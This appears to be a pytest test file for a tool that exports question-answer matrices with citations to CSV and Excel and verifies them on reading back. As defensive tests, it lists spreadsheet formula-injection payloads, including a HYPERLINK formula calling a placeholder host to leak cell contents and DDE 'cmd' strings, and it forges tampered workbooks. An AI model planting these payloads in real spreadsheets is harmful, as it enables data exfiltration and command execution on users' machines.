"""A matrix as CSV and as a workbook: what they contain, what they never run, and that `verify` reads them back."""

import csv
import io
import json
import re
import tracemalloc
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.rich_text import CellRichText

from corpus.articles import FoundArticle, make_article
from corpus.errors import CitationError
from corpus.reading import Reading
from index.building.build import build_index
from index.opening import open_index
from index.store import Index
from index.types import Encoder
from qa.citations.table_citations import WIDTH, guard_cell, read_table
from qa.citations.verification import verify
from qa.matrix.filling import fill_matrix
from qa.matrix.matrix import Matrix
from qa.matrix.spreadsheets import COLUMNS, write_csv, write_workbook
from qa.matrix.workbook_writer import MAX_CELL_LENGTH

QUESTIONS = [
    "How many of the peacekeepers are women?",
    "=How many of the peacekeepers are women?",
    "What is the capital of Australia?",
]


@pytest.fixture(scope="module")
def matrix(shipped: Index) -> Matrix:
    return fill_matrix(QUESTIONS, index=shipped)


@pytest.fixture
def build_hostile(tmp_path, encoder: Encoder) -> Callable[..., Index]:
    def build(text: str, title: str = "", source: str = "") -> Index:
        found = [FoundArticle(make_article(text, title=title, source=source), "0")]
        build_index(Reading(found), tmp_path / "index", encoder=encoder)
        return open_index(tmp_path / "index")

    return build


def lines_of(table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table, newline="")))


def statuses(content: bytes, name: str, index: Index) -> set[str]:
    return {verify(citation, index).status for citation in read_table(content, name)}


def test_the_lines_have_every_cell_with_its_sentence_and_place(matrix):
    lines = lines_of(write_csv(matrix))
    assert len(lines) == matrix.size
    assert list(lines[0]) == list(COLUMNS)
    stated = [line for line in lines if line["result"] == "stated"]
    assert {line["answer"] for line in stated} >= {"seven"}
    for line in lines:
        cell = json.loads(line["citation"] or "null")
        assert (line["result"] == "not stated") == (cell is None)
        if cell:
            article = matrix.index.articles[cell["article"]["id"]]
            assert line["sentence"] == article.text[cell["start"] : cell["end"]]
            assert line["answer"] in line["sentence"]
            assert (
                line["link"].endswith(f"#cite={article.id}:{cell['start']}-{cell['end']}")
                or "#:~:text=" in line["link"]
            )


def test_both_tables_are_verified_as_they_are(matrix):
    assert statuses(write_csv(matrix).encode(), "table.csv", matrix.index) == {"ok"}
    assert statuses(write_workbook(matrix), "table.xlsx", matrix.index) == {"ok"}


def test_a_changed_sentence_is_noticed_in_both_tables(matrix):
    table = write_csv(matrix)
    changed = table.replace("including seven women", "including eight women", 1)
    assert changed != table
    assert "changed" in statuses(changed.encode(), "table.csv", matrix.index)
    workbook = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))
    shown = next(cell for cell in workbook["Cells"]["E"] if "seven women" in str(cell.value))
    shown.value = shown.value.replace("seven", "eight")
    saved = io.BytesIO()
    workbook.save(saved)
    assert "changed" in statuses(saved.getvalue(), "table.xlsx", matrix.index)


def change_workbook(matrix: Matrix, change: Callable[[Any], None]) -> bytes:
    """Return the workbook of a matrix, changed by hand."""
    workbook = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)), rich_text=True)
    change(workbook)
    saved = io.BytesIO()
    workbook.save(saved)
    return saved.getvalue()


def change_table(matrix: Matrix, change: Callable[[Any], None]) -> bytes:
    """Return the workbook of a matrix, its sheet Table changed by hand."""
    return change_workbook(matrix, lambda workbook: change(workbook["Table"]))


def find_cell(sheet: Any, words: str) -> Any:
    return next(cell for row in sheet.iter_rows() for cell in row if words in str(cell.value))


def test_a_cell_of_the_table_that_shows_other_words_is_noticed(matrix):
    def alter(sheet):
        cell = find_cell(sheet, "seven women")
        cell.value = str(cell.value).replace("seven", "eight")

    def forge(sheet):
        find_cell(sheet, "not stated").value = "Hail fell on Canberra, the capital of Australia."

    def drop_blank(sheet):
        cell = find_cell(sheet, "seven women")
        cell.value = str(cell.value).replace("seven women", "sevenwomen")

    for change in alter, forge, drop_blank:
        assert statuses(change_table(matrix, change), "table.xlsx", matrix.index) - {"ok"}, change.__name__


def swap(sheet: Any, one: tuple[int, int], other: tuple[int, int]) -> None:
    first, second = sheet.cell(*one), sheet.cell(*other)
    assert str(first.value) != str(second.value)
    first.value, second.value = str(second.value), str(first.value)


def test_a_table_that_is_sorted_or_has_notes_is_ok(matrix):
    def sort(sheet):
        first, last = ([str(cell.value) for cell in sheet[number]] for number in (2, 4))
        for place, (one, other) in enumerate(zip(first, last, strict=True), start=1):
            sheet.cell(2, place).value, sheet.cell(4, place).value = other, one

    def sort_columns(sheet):
        for number in range(1, len(matrix.columns) + 2):
            one, other = sheet.cell(number, 2), sheet.cell(number, 4)
            one.value, other.value = str(other.value), str(one.value)

    def note(sheet):
        sheet.cell(2, len(matrix.questions) + 2).value = "To be checked."
        sheet.cell(1, len(matrix.questions) + 3).value = "Notes"
        sheet.cell(len(matrix.columns) + 3, 1).value = "Sum"
        sheet.cell(len(matrix.columns) + 3, 2).value = "=1+1"

    def insert_column(sheet):
        sheet.insert_cols(2)
        sheet["B2"].value = "To be checked."

    for change in sort, sort_columns, note, insert_column:
        assert statuses(change_table(matrix, change), "table.xlsx", matrix.index) == {"ok"}, change.__name__


def find_rows(matrix: Matrix) -> tuple[int, int]:
    """Return a row of the table whose first cell is a quotation and whose last one is not stated, and another."""
    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))["Table"]
    row = next(row for row in range(2, 8) if sheet.cell(row, 2).value != sheet.cell(row, 4).value == "not stated")
    return row, next(other for other in range(2, 8) if sheet.cell(other, 2).value != sheet.cell(row, 2).value)


def test_a_table_that_says_something_else_of_a_question_or_an_article_is_refused(matrix):
    row, other = find_rows(matrix)

    def deny(sheet):
        sheet.cell(row, 2).value = "not stated"

    def empty(sheet):
        sheet.cell(row, 2).value = None

    def swap_answers(sheet):
        swap(sheet, (row, 2), (row, 4))

    def swap_questions(sheet):
        swap(sheet, (1, 2), (1, 4))

    def swap_rows(sheet):
        swap(sheet, (row, 2), (other, 2))

    def swap_names(sheet):
        swap(sheet, (row, 1), (other, 1))

    def doubt(sheet):
        sheet.cell(row, 2).value = f"closest: {sheet.cell(row, 2).value}"

    for change in deny, empty, swap_answers, swap_questions, swap_rows, swap_names, doubt:
        with pytest.raises(CitationError, match="shows another text than its line"):
            read_table(change_table(matrix, change), "table.xlsx")


def test_a_row_or_column_that_the_lines_do_not_have_is_refused(matrix):
    last = len(matrix.columns) + 1

    def rename(sheet):
        sheet.cell(2, 1).value = "The Hail Times"

    def ask_otherwise(sheet):
        sheet.cell(1, 2).value = "Who stole the money?"

    def add_row(sheet):
        sheet.cell(last + 1, 1).value, sheet.cell(last + 1, 2).value = "The Hail Times", "Hail fell."

    def add_note_beside(sheet):
        sheet.cell(1, len(matrix.questions) + 2).value = "Notes"

    for change in rename, ask_otherwise, add_row, add_note_beside:
        with pytest.raises(CitationError, match="has a head that the sheet Cells does not have"):
            read_table(change_table(matrix, change), "table.xlsx")

    def add_title(sheet):
        sheet.insert_rows(1)
        sheet["A1"].value = "Our questions"

    def remove_row(sheet):
        sheet.delete_rows(last)

    for change in add_title, remove_row:
        with pytest.raises(CitationError, match="has no cell for"):
            read_table(change_table(matrix, change), "table.xlsx")


def test_no_other_name_of_a_sheet_or_head_and_no_missing_line_switches_the_check_off(matrix):
    def forge(workbook):
        last = len(matrix.columns) + 1
        workbook["Table"].cell(last, 2).value = "Hail fell."

    def rename(workbook):
        forge(workbook)
        workbook["Table"].title = "Results"

    def capitalise(name):
        def change(workbook):
            forge(workbook)
            find_cell(workbook["Cells"], name).value = name.capitalize()

        return change

    def cut_lines(workbook):
        forge(workbook)
        workbook["Cells"].delete_rows(matrix.size + 2 - len(matrix.questions), len(matrix.questions))

    changes = {
        rename: "no sheet Table",
        capitalise("question"): "one column question",
        capitalise("asked"): "one column asked",
        capitalise("result"): "one column result",
        cut_lines: "has a head that the sheet Cells does not have",
    }
    for change, told in changes.items():
        with pytest.raises(CitationError, match=told):
            read_table(change_workbook(matrix, change), "table.xlsx")


@pytest.mark.parametrize("by", ["sources", "all"])
def test_the_cells_of_every_kind_of_table_are_compared(by, shipped):
    matrix = fill_matrix(QUESTIONS, index=shipped, by=by)
    assert statuses(write_workbook(matrix), "table.xlsx", shipped) == {"ok"}

    def deny(sheet):
        find_cell(sheet, "seven women").value = "not stated"

    with pytest.raises(CitationError, match="shows another text than its line"):
        read_table(change_table(matrix, deny), "table.xlsx")


def test_an_article_named_like_a_question_or_like_another_article_is_ok(build_hostile, tmp_path, encoder):
    text, question = "The harbour of Aktau pays nine tenge to the mayor of the town.", "What does the harbour pay?"
    questions = [question, "Who is paid by the harbour?"]
    index = build_hostile(text, title=question)
    assert statuses(write_workbook(fill_matrix(questions, index=index)), "table.xlsx", index) == {"ok"}
    texts = text, "Later the harbour of Aktau pays ten tenge to nobody."
    same = [FoundArticle(make_article(one, title="Aktau · News", source="A · B"), one) for one in texts]
    build_index(Reading(same), tmp_path / "same", encoder=encoder)
    index = open_index(tmp_path / "same")
    matrix = fill_matrix(questions, index=index)
    assert len(matrix.columns) == 2
    assert statuses(write_workbook(matrix), "table.xlsx", index) == {"ok"}


def test_a_cell_far_to_the_right_takes_no_memory_for_each_row(matrix):
    def widen(name):
        def change(workbook):
            workbook[name]["XFD1"].value = "a"
            for number in range(workbook[name].max_row + 2, 1500):
                workbook[name].cell(number, 9).value = "a"

        return change_workbook(matrix, change)

    wide_lines, wide_table = widen("Cells"), widen("Table")
    read_table(wide_table, "table.xlsx")
    tracemalloc.start()
    try:
        read_table(wide_table, "table.xlsx")
        with pytest.raises(CitationError, match="more than 12 columns"):
            read_table(wide_lines, "table.xlsx")
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()
    assert len(COLUMNS) == WIDTH


def test_the_workbook_marks_the_answer_and_links_each_cell_to_its_place(matrix):
    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)), rich_text=True)["Table"]
    assert sheet.max_row == len(matrix.columns) + 1
    assert sheet.max_column == len(matrix.questions) + 1
    for row, column in enumerate(matrix.columns, start=2):
        for place, question in enumerate(matrix.questions, start=2):
            cell, shown = matrix.cell(question, column), sheet.cell(row, place)
            quote = cell.quote(matrix.index)
            if quote is None:
                assert str(shown.value) == "not stated"
                continue
            assert str(shown.value).removeprefix("closest: ") == quote.text
            target = shown.hyperlink.target or ""
            assert f"{quote.start}-{quote.end}" in f"{target}#{shown.hyperlink.location}" or ":~:text=" in target
            if quote.span:
                assert isinstance(shown.value, CellRichText)
                assert quote.span.text in {part.text for part in shown.value if hasattr(part, "font") and part.font.b}


@pytest.mark.parametrize("by", ["articles", "all"])
def test_questions_go_down_where_there_is_one_column(by, shipped):
    matrix = fill_matrix(QUESTIONS, index=shipped, by=by)
    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))["Table"]
    down = [str(cell.value) for cell in sheet["A"][1:]]
    assert (down == list(matrix.questions)) == (by == "all")


FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_runs_as_a_formula(formula, build_hostile):
    text = f"{formula} is what the harbour of Aktau pays to the mayor of the town."
    index = build_hostile(text, title=formula, source=formula)
    matrix = fill_matrix([f"{formula} harbour of Aktau", "What does the harbour of Aktau pay?"], index=index)
    assert {cell.state for cell in matrix.cells.values()} & {"stated", "closest"}
    for line in csv.reader(io.StringIO(write_csv(matrix), newline="")):
        assert not [cell for cell in line if cell[:1] in tuple("=+-@\t\r")]
    content = write_workbook(matrix)
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert not [name for name in package.namelist() if b"<f>" in package.read(name)]
    assert statuses(content, "table.xlsx", index) == statuses(write_csv(matrix).encode(), "t.csv", index) == {"ok"}


def test_hidden_and_control_characters_are_shown_and_still_verified(build_hostile):
    text = "The harbour of Aktau pays \u202e000,9\u202c tenge to the mayor\u200b of the town, \x07he said."
    matrix = fill_matrix(["What does the harbour of Aktau pay?"], index=build_hostile(text, title="a\u202eb\x07"))
    table, content = write_csv(matrix), write_workbook(matrix)
    assert "\u202e" not in table
    assert "\x07" not in table
    assert statuses(table.encode(), "t.csv", matrix.index) == statuses(content, "t.xlsx", matrix.index) == {"ok"}


def test_a_sentence_longer_than_a_cell_is_cut_in_the_table_and_left_out_of_the_lines(build_hostile):
    text = f"The harbour of Aktau pays {'very ' * 8000}much to the mayor of the town."
    matrix = fill_matrix(["What does the harbour of Aktau pay?"], index=build_hostile(text))
    if not next(iter(matrix.cells.values())).article_id:
        pytest.skip("the sentence is not quoted")
    workbook = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))
    assert all(len(str(cell.value)) <= MAX_CELL_LENGTH for row in workbook["Table"].iter_rows() for cell in row)
    assert statuses(write_csv(matrix).encode(), "t.csv", matrix.index) == {"ok"}


def test_a_guarded_cell_begins_with_an_apostrophe():
    assert guard_cell("=1") == "'=1"
    assert guard_cell("1=1") == "1=1"


GOOD = '"{""text"": ""a"", ""start"": 0, ""end"": 1, ""prefix"": """", ""suffix"": """", ""article"": {""id"": ""x""}}"'


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"\xff\xfe", "not CSV"),
        (b"a,b\n1,2\n", "no columns"),
        (b"", "no columns"),
        (b"sentence,citation\n", "no citation"),
        (f"sentence,citation\na\n{GOOD}".encode(), "cells"),
        (b'sentence,citation\na,""\n', "without its citation"),
        (f'sentence,citation\n"",{GOOD}\n'.encode(), "shows no quotation"),
        (b"sentence,citation\na,not json\n", "row 2"),
        (b'sentence,citation\na,"[]"\n', "no citation"),
        (b'sentence,citation\n"a', "not CSV"),
    ],
)
def test_a_table_that_cannot_be_read_says_why(content, told):
    with pytest.raises(CitationError, match=told):
        read_table(content, "table.csv")


def test_a_workbook_that_is_none_or_unpacks_to_too_much_is_refused(matrix, monkeypatch):
    with pytest.raises(CitationError, match="not a workbook"):
        read_table(b"PK\x03\x04 nothing", "table.xlsx")
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as zipped:
        zipped.writestr("a", "b")
    with pytest.raises(CitationError, match="not a workbook"):
        read_table(package.getvalue(), "table.xlsx")
    monkeypatch.setattr("qa.citations.table_citations.MAX_UNPACKED", 1000)
    with pytest.raises(CitationError, match="too large"):
        read_table(write_workbook(matrix), "table.xlsx")


def forge_workbook(matrix: Matrix, change: Callable[[str], str]) -> bytes:
    """Return the workbook of a matrix with its sheet Cells changed."""
    forged = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(write_workbook(matrix))) as package, zipfile.ZipFile(forged, "w") as changed:
        for name in package.namelist():
            part = package.read(name)
            if name == "xl/worksheets/sheet2.xml":
                text = part.decode()
                part = change(text).encode()
                assert part.decode() != text
            changed.writestr(name, part)
    return forged.getvalue()


def test_a_workbook_that_states_a_smaller_size_is_read_whole(matrix):
    forged = forge_workbook(
        matrix, lambda sheet: sheet.replace("<sheetViews", '<dimension ref="A1:L2"/><sheetViews', 1)
    )
    whole = read_table(write_workbook(matrix), "table.xlsx")
    assert len(whole) > 1
    assert read_table(forged, "table.xlsx") == whole


def test_a_workbook_with_a_formula_in_place_of_a_sentence_is_refused(matrix):
    def compute(sheet: str) -> str:
        cell = r'<c r="E2"( s="\d+")? t="inlineStr"><is><t>(.*?)</t></is>'
        return re.sub(cell, r'<c r="E2"\1 t="str"><f>CONCATENATE("Hail ","fell.")</f><v>\2</v>', sheet)

    with pytest.raises(CitationError, match="row 2 has a formula"):
        read_table(forge_workbook(matrix, compute), "table.xlsx")


def test_a_workbook_whose_format_shows_other_words_is_refused(matrix):
    workbook = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))
    workbook["Cells"]["E2"].number_format = '0;0;0;"Hail fell."'
    saved = io.BytesIO()
    workbook.save(saved)
    with pytest.raises(CitationError, match="row 2 has a cell that shows other words"):
        read_table(saved.getvalue(), "table.xlsx")


def test_a_workbook_with_rows_beyond_those_of_excel_is_refused(matrix):
    with pytest.raises(CitationError, match="more than 1,048,576 rows"):
        read_table(forge_workbook(matrix, lambda sheet: sheet.replace('<row r="3"', '<row r="900000000000"')), "a.xlsx")
